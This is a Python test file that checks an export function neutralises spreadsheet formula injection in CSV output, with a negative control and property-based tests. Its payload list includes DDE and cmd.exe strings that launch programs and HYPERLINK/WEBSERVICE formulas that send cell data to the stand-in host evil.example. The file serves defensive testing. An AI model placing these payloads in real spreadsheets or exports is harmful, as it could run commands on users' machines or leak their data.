"""R16: nothing that people typed runs as a formula where a file of ours is opened."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from projects.exports import inert

# Our own strings, in the style of the published lists: what spreadsheets have been seen to run.
PAYLOADS = (
    *("=1+1", "=1+1;", "==1+1", "=A1", "=SUM(A1:A9)", "=cmd|'/c calc'!A0", "=cmd|'/c calc'!'A1'"),
    *("+1+1", "++1", "+cmd|'/c calc'!A0", "-1+1", "--1", "-2+3+cmd|'/c calc'!A0", "- 1", "-A1", "+A1"),
    *("@SUM(1+1)", "@A1", "@SUM(1+1)*cmd|'/c calc'!A0", "@@1", "=@A1", "+@A1", "=-1", "=+1", "=(1)"),
    *('=HYPERLINK("http://evil.example/?"&A1,"Open")', '=IMPORTXML("http://evil.example","//a")'),
    *('=WEBSERVICE("http://evil.example/"&A1)', '=IMAGE("http://evil.example/x.png")', '=EXEC("calc")'),
    *('=IMPORTDATA("http://evil.example")', '=IMPORTRANGE("x","A1")', '=CALL("kernel32","WinExec","JCJ")'),
    *('=REGISTER("x","y")', '=DDE("cmd";"/c calc";"x")', "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "  +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "\t＝1+1", "\t", "\t-1", "\r@A1"),
    *("x;=1+1", "x;=1+1;y", "x\t=1+1\ty", "x\n=1+1\ny", "x\r=1+1", 'x";=1+1;"', "x; @SUM(1)", "x;＝1+1"),
)
LIVE = re.compile(r"[ \u00a0\u200b\ufeff]*[=+\-@\t\r＝＋－＠]")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def runs(cell: str) -> bool:
    """Return whether a spreadsheet may take the cell for a formula: numbers are none."""
    return bool(LIVE.match(cell)) and not PLAIN_NUMBER.fullmatch(cell)


def cells_of(text: str) -> list[str]:
    """Return every cell that a spreadsheet may see in the file, whichever character it splits at."""
    found = []
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += row
    return found


def written(cells: list[str]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(cells)
    return out.getvalue()


def test_sixty_payloads_are_tried():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_payload_runs_however_the_file_is_split(payload):
    file = written(["W1", inert(payload), "36"])

    assert [cell for cell in cells_of(file) if runs(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_the_same_payload_as_typed_would_be_seen(payload):
    """The negative control."""
    assert any(runs(cell) for cell in cells_of(written(["W1", payload, "36"])))


@pytest.mark.parametrize("number", ["-1", "-12.50", "+3", "0", "36.5"])
def test_numbers_stay_numbers(number):
    assert inert(number) == number


@pytest.mark.parametrize(
    "text", ["W1", "3'-0 1/2\"", "36 x 60", "2-04", "a = b", "lot-7; see plan", "", "é=1"]
)
def test_plain_text_stays_as_it_is(text):
    assert inert(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@;\t\r\n \"'＝a1|,"), max_size=12))
def test_no_text_at_all_runs(text):
    cells = cells_of(written(["W1", inert(text), "36"]))

    # a tab alone runs nothing: what follows it does
    assert [cell for cell in cells if runs(cell.lstrip(" \t\r\n"))] == []
